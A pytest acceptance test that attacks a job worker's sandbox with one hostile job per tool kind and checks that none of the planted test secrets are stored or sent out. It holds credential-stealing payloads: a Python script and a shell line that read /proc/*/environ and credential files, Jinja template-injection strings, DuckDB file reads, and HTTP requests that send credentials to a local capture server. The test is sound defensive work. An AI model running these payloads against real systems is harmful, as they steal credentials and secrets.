"""No tool kind can read a secret of the worker: one attacking row per kind, against the real
worker started the way production starts it (as root: with ``--run-as``).

The worker holds a DSN password, ``PGPASSWORD``, a password file (``PGPASSFILE``), a
credentials file and a credential token in its environment. Each row tries to read them (its
environment, its ancestors' ``/proc/<pid>/environ``, the files, the template engine's
internals) and to send them out; nothing the worker stored or sent may hold any of them.
"""

from __future__ import annotations

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import psycopg
import pytest

from ..helpers import unavailable
from ..integration.test_sandbox import FakePostgres
from .attack_harness import attacked_worker, enqueue_one, every_text, time_to_terminal

pytestmark = pytest.mark.acceptance

IS_ROOT = os.geteuid() == 0
SECRETS = {
    "dsn": "dsn-secret-5813",
    "PGPASSWORD": "pgpassword-secret-5813",
    "pgpass": "pgpass-secret-5813",
    "token": "credential-token-secret-5813",
    "file": "credentials-file-secret-5813",
}

#: What a python step tries: its environment, every readable environ, the files.
PYTHON_THIEF = """
import os, glob
def main(paths):
    got = [repr(dict(os.environ))]
    for p in glob.glob('/proc/[0-9]*/environ') + paths:
        try:
            got.append(open(p, 'rb').read().decode('utf-8', 'replace'))
        except OSError as exc:
            got.append(type(exc).__name__)
    return {'got': got}
"""
SHELL_THIEF = "env; cat /proc/[0-9]*/environ; cat {files}; true"
#: Classic template injections (each blocked by Jinja's sandbox; rendered in a child anyway).
TEMPLATE_THIEVES = [
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ self._TemplateReference__context }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ namespace.__init__.__globals__ }}",
]


class Capture(ThreadingHTTPServer):
    """Records every request (line, headers, body) it gets."""

    def __init__(self) -> None:
        self.seen: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _any(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(size).decode("utf-8", "replace")
                server.seen.append(f"{self.requestline}\n{self.headers}\n{body}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _any

        server = self
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


def _worker_env(tmp_path: Path) -> dict[str, str]:
    pgpass = tmp_path / "pgpass"
    pgpass.write_text(f"*:*:*:*:{SECRETS['pgpass']}\n")
    pgpass.chmod(0o600)
    creds = tmp_path / "credentials.json"
    creds.write_text(json.dumps({"filed": {"token": SECRETS["file"], "allowed_hosts": ["x.y"]}}))
    creds.chmod(0o600)
    return {
        "PGPASSWORD": SECRETS["PGPASSWORD"],
        "PGPASSFILE": str(pgpass),
        "NOETL_PGWORKER_CREDENTIALS": str(creds),
        "NOETL_PGWORKER_CREDENTIAL_API": json.dumps(
            {"token": SECRETS["token"], "allowed_hosts": ["api.example.com"]}
        ),
    }


def _rows(env: dict[str, str], capture: Capture, fake_pg: FakePostgres) -> list[dict[str, Any]]:
    files = [env["PGPASSFILE"], env["NOETL_PGWORKER_CREDENTIALS"]]
    sink = f"http://127.0.0.1:{capture.server_address[1]}"
    rows: list[dict[str, Any]] = [
        {"kind": "python", "config": {"code": PYTHON_THIEF, "args": {"paths": files}}},
        {"kind": "shell", "config": {"command": SHELL_THIEF.format(files=" ".join(files))}},
        *(
            {"kind": "duckdb", "config": {"query": f"SELECT content FROM read_text('{path}')"}}
            for path in ["/proc/self/environ", f"/proc/{os.getpid()}/environ", *files]
        ),
        # postgres: a connection to a host the row names gets nothing of the worker's
        {
            "kind": "postgres",
            "config": {
                "connection_string": f"host=127.0.0.1 port={fake_pg.port} user=thief",
                "query": "SELECT 1",
            },
        },
        # http: the worker's credentials to a host the row names
        {"kind": "http", "config": {"url": f"{sink}/api", "auth": "api"}},
        {"kind": "http", "config": {"url": f"{sink}/filed", "auth": "filed"}},
        *(
            {"kind": "http", "config": {"url": f"{sink}/t", "method": "POST", "body": t}}
            for t in TEMPLATE_THIEVES
        ),
        {
            "kind": "task_sequence",
            "config": {
                "tasks": [
                    {"name": "py", "kind": "python", "code": PYTHON_THIEF, "args": {"paths": files}}
                ]
            },
        },
    ]
    return rows


@pytest.mark.timeout(300)
@pytest.mark.parametrize("python_mode", ["process", "spawn"])  # (inline is the worker itself)
def test_no_tool_kind_reads_a_secret_of_the_worker(
    dsn: str, tmp_path: Path, python_mode: str
) -> None:
    if not IS_ROOT:
        unavailable("--run-as (the production setup) needs a root worker: run as root (as CI does)")
    env = _worker_env(tmp_path)
    os.chmod(tmp_path, 0o755)
    capture = Capture()
    fake_pg = FakePostgres()
    worker_dsn = f"{dsn} password={SECRETS['dsn']}"  # the test cluster trusts local users
    try:
        with (
            psycopg.connect(dsn, autocommit=True) as conn,
            attacked_worker(
                worker_dsn,
                "--command-timeout",
                "30",
                "--run-as",
                "nobody",
                "--http-allow-loopback",
                "--python-mode",
                python_mode,
                env=env,
            ),
        ):
            rows = _rows(env, capture, fake_pg)
            ids = [enqueue_one(conn, r["kind"], r["config"], step=r["kind"]) for r in rows]
            took = time_to_terminal(conn, ids, limit=120)
            assert len(took) == len(ids), "not every attacking row ended"
            kinds = conn.execute(
                "SELECT DISTINCT tool_kind FROM noetl.command WHERE command_id = ANY(%s)",
                (ids,),
            ).fetchall()
            assert {k for (k,) in kinds} >= {"python", "shell", "duckdb", "postgres", "http"}
            written = every_text(conn)
    finally:
        capture.shutdown()
        capture.server_close()
        fake_pg.close()
    sent = "\n".join(capture.seen) + json.dumps(fake_pg.passwords)
    for name, secret in SECRETS.items():
        assert secret not in written, f"the {name} secret reached the database"
        assert secret not in sent, f"the {name} secret was sent out"
    assert fake_pg.passwords in ([], [""]) or set(fake_pg.passwords) == {""}
